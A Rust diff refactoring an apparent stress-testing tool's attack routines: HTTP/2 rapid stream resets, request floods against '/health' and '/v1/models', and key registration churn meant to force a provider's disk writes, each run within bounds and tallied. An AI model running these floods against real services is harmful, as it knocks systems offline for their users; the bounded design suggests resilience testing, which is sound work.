@@ -1,22 +1,18 @@
 //! More requests than anybody needs.
 
-use std::time::Duration;
-
 use bytes::Bytes;
 use http::Method;
 use rand::rngs::StdRng;
 use rand::{Rng as _, SeedableRng as _};
 use sottovoce_protocol::Fingerprint;
 
+use super::repetition::repeat;
 use crate::attacker::Attacker;
 use crate::bounds::Bounds;
 use crate::http2::frame;
 use crate::http2::raw_session::RawSession;
-use crate::http2::session::{Failure, Session};
+use crate::http2::session::{Session, receive};
 use crate::report::Tally;
-
-/// Pause after a connection that could not be opened or was closed.
-pub const RECONNECT_PAUSE: Duration = Duration::from_millis(200);
 
 /// Bytes of a body that are sent before its stream is reset.
 const BODY_BYTES: usize = 4096;
@@ -27,28 +23,16 @@ const REQUESTS_AT_A_TIME: usize = 16;
 /// Opens streams of every resource that does some work, and resets each at once.
 pub async fn reset_streams(attacker: &Attacker, bounds: &Bounds, tally: &Tally) {
     let mut rng = StdRng::seed_from_u64(attacker.seed);
-    while bounds.allow(tally.attempts()) {
-        let mut session = match RawSession::open(&attacker.target, &[]).await {
-            Ok(session) => session,
-            Err(Failure(reason)) => {
-                tally.outcome(reason);
-                bounds.sleep(RECONNECT_PAUSE).await;
-                continue;
-            }
-        };
-        while bounds.allow(tally.attempts()) {
-            tally.attempt();
-            let stream = session.next_stream();
-            let bytes = reset_request(attacker, stream, tally.attempts(), &mut rng);
-            if let Err(Failure(reason)) = session.write(&bytes).await {
-                tally.outcome(reason);
-                bounds.sleep(RECONNECT_PAUSE).await;
-                break;
-            }
-            tally.outcome("sent and reset");
-            bounds.pause().await;
-        }
-    }
+    let open = async || RawSession::open(&attacker.target, &[]).await;
+    repeat(bounds, tally, open, async |session| {
+        tally.attempt();
+        let stream = session.next_stream();
+        let bytes = reset_request(attacker, stream, tally.attempts(), &mut rng);
+        session.write(&bytes).await?;
+        tally.outcome("sent and reset");
+        Ok(())
+    })
+    .await;
 }
 
 /// Frames of a request and of its reset.
@@ -83,65 +67,33 @@ pub async fn flood_requests(attacker: &Attacker, bounds: &Bounds, tally: &Tally)
         (Method::GET, "/health".to_owned()),
         (Method::POST, "/v1/models".to_owned()),
     ];
-    while bounds.allow(tally.attempts()) {
-        let mut session = match Session::open(&attacker.target).await {
-            Ok(session) => session,
-            Err(Failure(reason)) => {
-                tally.outcome(reason);
-                bounds.sleep(RECONNECT_PAUSE).await;
-                continue;
-            }
-        };
-        while bounds.allow(tally.attempts()) && !session.is_closed() {
-            let mut responses = Vec::new();
-            for (method, path) in paths.iter().cycle().take(REQUESTS_AT_A_TIME) {
-                tally.attempt();
-                match session.start(method.clone(), path, None, false).await {
-                    Ok((response, _)) => responses.push(response),
-                    Err(Failure(reason)) => {
-                        tally.outcome(reason);
-                        break;
-                    }
-                }
-            }
-            for response in responses {
-                match crate::http2::session::receive(response).await {
-                    Ok(response) => tally.outcome(format!("status {}", response.status.as_u16())),
-                    Err(Failure(reason)) => tally.outcome(reason),
-                }
-            }
-            bounds.pause().await;
+    let open = async || Session::open(&attacker.target).await;
+    repeat(bounds, tally, open, async |session| {
+        let mut responses = Vec::new();
+        for (method, path) in paths.iter().cycle().take(REQUESTS_AT_A_TIME) {
+            tally.attempt();
+            responses.push(session.start(method.clone(), path, None, false).await?.0);
         }
-        if session.is_closed() {
-            bounds.sleep(RECONNECT_PAUSE).await;
+        for response in responses {
+            tally.outcome(format!("status {}", receive(response).await?.status.as_u16()));
         }
-    }
+        Ok(())
+    })
+    .await;
 }
 
 /// Registers keys and deletes them: every time, the provider writes to its disk.
 pub async fn churn_keys(attacker: &Attacker, bounds: &Bounds, tally: &Tally) {
     let path = attacker.keys_path();
-    while bounds.allow(tally.attempts()) {
-        let Ok(mut session) = Session::open(&attacker.target).await else {
-            tally.outcome("no connection");
-            bounds.sleep(RECONNECT_PAUSE).await;
-            continue;
+    let open = async || Session::open(&attacker.target).await;
+    repeat(bounds, tally, open, async |session| {
+        tally.attempt();
+        let response = match tally.attempts() % 2 {
+            0 => session.send(Method::DELETE, &path).await?,
+            _ => session.send_body(Method::PUT, &path, attacker.registration.clone()).await?,
         };
-        while bounds.allow(tally.attempts()) && !session.is_closed() {
-            tally.attempt();
-            let sent = match tally.attempts() % 2 {
-                0 => session.send(Method::DELETE, &path).await,
-                _ => session.send_body(Method::PUT, &path, attacker.registration.clone()).await,
-            };
-            match sent {
-                Ok(response) => tally.outcome(format!("status {}", response.status.as_u16())),
-                Err(Failure(reason)) => {
-                    tally.outcome(reason);
-                    break;
-                }
-            }
-            bounds.pause().await;
-        }
-        bounds.sleep(RECONNECT_PAUSE).await;
-    }
+        tally.outcome(format!("status {}", response.status.as_u16()));
+        Ok(())
+    })
+    .await;
 }
